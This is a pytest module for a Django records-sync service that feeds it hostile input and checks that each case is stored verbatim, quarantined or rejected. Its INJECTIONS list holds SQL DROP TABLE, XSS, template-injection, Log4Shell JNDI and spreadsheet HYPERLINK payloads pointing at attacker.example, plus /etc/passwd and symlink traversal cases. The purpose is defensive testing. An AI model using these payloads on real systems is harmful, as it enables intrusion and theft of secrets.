"""The bad-input catalogue for the core-system feed.

Path traversal and odd names in the inbox, non-UTF-8 names and contents, deeply nested lines, and
injection strings in every text field of every entity. Each case gets a clear outcome (applied
verbatim as data, quarantined with a reason, or the batch rejected whole with a reason code),
nothing is applied wrongly, and nothing is lost (rejected files are kept, byte for byte).
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path
from typing import Any

import pytest
from django.db import connection

from residents.models import Household, Resident
from simulators.core_system import mirror_state_load
from sync.models import Batch, QuarantinedRecord, SyncAlert
from sync.services import sync_run
from tests.reliability.mirror import mirror_checksums
from tests.sync import feedutil as fu

pytestmark = pytest.mark.django_db

INJECTIONS = [
    "'; DROP TABLE residents_resident; --",
    '" OR 1=1 --',
    "<script>alert('x')</script>",
    "{{ settings.SECRET_KEY }}",
    "${jndi:ldap://attacker.example/a}",
    "%(password)s %s %n",
    "../../../../etc/passwd",
    '=HYPERLINK("http://attacker.example")',
    "佐賀\u202e逆順\u200b",
    "x" * 5000,
]

# (entity, builder, the member index its record concerns)
_BUILDERS = {
    "household": lambda i: fu.household(f"H{i:03d}", head_resident_code=f"R{i:03d}"),
    "resident": lambda i: fu.resident(f"R{i:03d}", f"H{i:03d}", seed=i),
    "seal_registration": lambda i: fu.seal(f"S{i:03d}", f"R{i:03d}"),
    "tax_assessment": lambda i: fu.tax_assessment(f"R{i:03d}"),
    "tax_payment": lambda i: fu.tax_payment(f"R{i:03d}"),
    "card_link": lambda i: fu.card_link(f"{i:x}ab", f"R{i:03d}"),
}
_TABLE = {
    "household": "households",
    "resident": "residents",
    "seal_registration": "seals",
    "tax_assessment": "assessments",
    "tax_payment": "payments",
    "card_link": "card_links",
}


def _text_fields() -> list[tuple[str, str]]:
    return [
        (entity, name)
        for entity, build in _BUILDERS.items()
        for name, value in build(1).items()
        if isinstance(value, str)
    ]


def _world(count: int) -> list[dict[str, Any]]:
    lines = [fu.upsert("household", _BUILDERS["household"](i)) for i in range(1, count + 1)]
    for entity in ("resident", "seal_registration", "tax_assessment", "tax_payment", "card_link"):
        lines += [fu.upsert(entity, _BUILDERS[entity](i)) for i in range(1, count + 1)]
    return lines


def _names(folder: Path) -> set[str]:
    return {p.name for p in folder.iterdir()} if folder.exists() else set()


@pytest.fixture
def inbox(settings) -> Path:
    return Path(settings.SYNC_INBOX_DIR)


def _injection_batches(inbox: Path, payloads: list[str]) -> None:
    fields = _text_fields()
    assert len(fields) >= 25  # every str field of the six entities, keys included
    fu.write_batch(inbox, 1, _world(len(fields)), kind="full")
    assert [o.records_quarantined for o in sync_run().applied] == [0]
    tables_before = set(connection.introspection.table_names())

    for offset, payload in enumerate(payloads):
        number = offset + 2
        # Record i of each entity gets the payload in one of its text fields: every field, one record.
        lines = []
        for i, (entity, name) in enumerate(fields, start=1):
            data = _BUILDERS[entity](i)
            data[name] = payload
            lines.append(fu.upsert(entity, data))
        fu.write_batch(inbox, number, lines, kind="delta")

        result = sync_run()

        assert [o.number for o in result.applied] == [number], (payload[:40], result.message)
        batch = Batch.objects.get(number=number, status=Batch.Status.APPLIED)
        quarantined = {q.line_number: q for q in QuarantinedRecord.objects.filter(batch=batch)}
        # Nothing lost: every line is either applied or kept in quarantine with a reason.
        assert batch.records_applied + batch.records_quarantined == len(lines)
        assert len(quarantined) == batch.records_quarantined
        assert all(q.reason and q.reason_code for q in quarantined.values())
        state = mirror_state_load()
        for line_number, (line, (entity, name)) in enumerate(zip(lines, fields, strict=True), start=1):
            if line_number in quarantined:
                assert quarantined[line_number].entity == entity
                continue
            stored = getattr(state, _TABLE[entity]).get(line["key"])
            assert stored is not None, f"{entity}.{name}: applied but not in the mirror"
            assert stored[name] == payload, f"{entity}.{name} not stored verbatim"

    # Never executed: every table is still there, the mirror still has its rows.
    assert tables_before <= set(connection.introspection.table_names())
    assert Resident.objects.count() >= len(fields) and Household.objects.count() >= len(fields)


def test_injection_strings_in_every_text_field_are_stored_verbatim_or_quarantined(inbox):
    _injection_batches(inbox, INJECTIONS)


def test_a_nul_character_in_any_text_field_is_quarantined_not_a_crash(inbox):
    # PostgreSQL text and jsonb cannot hold U+0000: the record cannot be stored verbatim, so it must
    # be quarantined with a reason, like any other invalid value, and the batch go on.
    _injection_batches(inbox, ["NUL\x00byte"])
    assert QuarantinedRecord.objects.filter(batch__number=2).count() == len(_text_fields())


def _reject_case(inbox: Path, number: int, body: bytes) -> None:
    fu.write_batch(inbox, number, [], raw=body)


@pytest.mark.parametrize(
    ("label", "body", "reason_code"),
    [
        ("non_utf8", b'{"op": "upsert", "entity": "household", "data": {"address": "\xff\xfe"}}\n',
         "not_utf8"),
        ("deeply_nested", b"[" * 100_000 + b"]" * 100_000 + b"\n", "unparseable_line"),
        ("nan_constant", b'{"op": "upsert", "entity": "tax_payment", "key": "x", "data": NaN}\n',
         "unparseable_line"),
        ("not_an_object", b'"just a string"\n', "line_not_object"),
        ("unknown_entity", b'{"op": "upsert", "entity": "../../auth_user", "key": "1", "data": {}}\n',
         "unknown_entity"),
        ("unknown_op", b'{"op": "DROP TABLE", "entity": "household", "key": "H1"}\n', "unknown_op"),
    ],
)  # fmt: skip
def test_a_malformed_line_rejects_the_whole_batch_and_keeps_its_bytes(inbox, label, body, reason_code):
    fu.write_batch(inbox, 1, fu.family(), kind="full")
    sync_run()
    before = mirror_checksums()
    good_line = (
        json.dumps(fu.upsert("resident", fu.resident(given_name="変更")), ensure_ascii=False) + "\n"
    ).encode()
    data = good_line + body

    _reject_case(inbox, 2, data)
    result = sync_run()

    assert result.stopped == "rejected" and result.stopped_at == 2, label
    batch = Batch.objects.get(number=2)
    assert batch.status == Batch.Status.REJECTED and batch.reason_code == reason_code
    assert mirror_checksums() == before, "the good line before the bad one was not applied either"
    assert (inbox / "rejected" / batch.stored_as.removeprefix("rejected/")).read_bytes() == data
    assert SyncAlert.objects.filter(
        kind=SyncAlert.Kind.REJECTED, batch_number=2, cleared_at__isnull=True
    ).exists()


def test_path_traversal_and_odd_names_in_the_inbox_are_never_followed_nor_lost(inbox, tmp_path):
    secret = tmp_path / "outside" / "secret.jsonl"
    secret.parent.mkdir()
    secret.write_bytes(b'{"outside": "the inbox"}\n')
    fu.write_batch(inbox, 1, fu.family(), kind="full")
    sync_run()
    before = mirror_checksums()

    # A batch file that is a symlink out of the inbox, with a manifest that matches the target.
    (inbox / "0000000002.jsonl").symlink_to(Path("..") / "outside" / "secret.jsonl")
    fu.write_batch(inbox, 3, fu.family("H009", ("R009",), seed=50))  # held back by 2
    manifest = {
        "batch": 2,
        "kind": "delta",
        "records": 1,
        "sha256": hashlib.sha256(secret.read_bytes()).hexdigest(),
        "created_at": "2026-11-26T09:00:00+09:00",
    }
    (inbox / "0000000002.manifest.json").write_text(json.dumps(manifest))
    # Names the feed never uses: non-UTF-8 bytes, a traversal-looking name, a directory with a batch name.
    odd_names = [b"0000000004\xff.jsonl", b"..%2f..%2f0000000005.jsonl", b"\xe4\xbd\x90\xff.manifest.json"]
    for raw in odd_names:
        with open(os.path.join(os.fsencode(inbox), raw), "wb") as handle:
            handle.write(b"kept as it is\n")
    (inbox / "0000000006.jsonl").mkdir()

    result = sync_run()

    assert result.stopped == "rejected" and result.stopped_at == 2
    assert Batch.objects.get(number=2).reason_code == "not_regular_file"
    assert secret.read_bytes() == b'{"outside": "the inbox"}\n'  # never moved, never read into the mirror
    assert mirror_checksums() == before
    assert not Batch.objects.filter(number=3).exists()
    for raw in odd_names:  # ignored and kept, byte for byte
        with open(os.path.join(os.fsencode(inbox), raw), "rb") as handle:
            assert handle.read() == b"kept as it is\n"
    assert (inbox / "0000000006.jsonl").is_dir()
    assert "0000000003.jsonl" in _names(inbox)
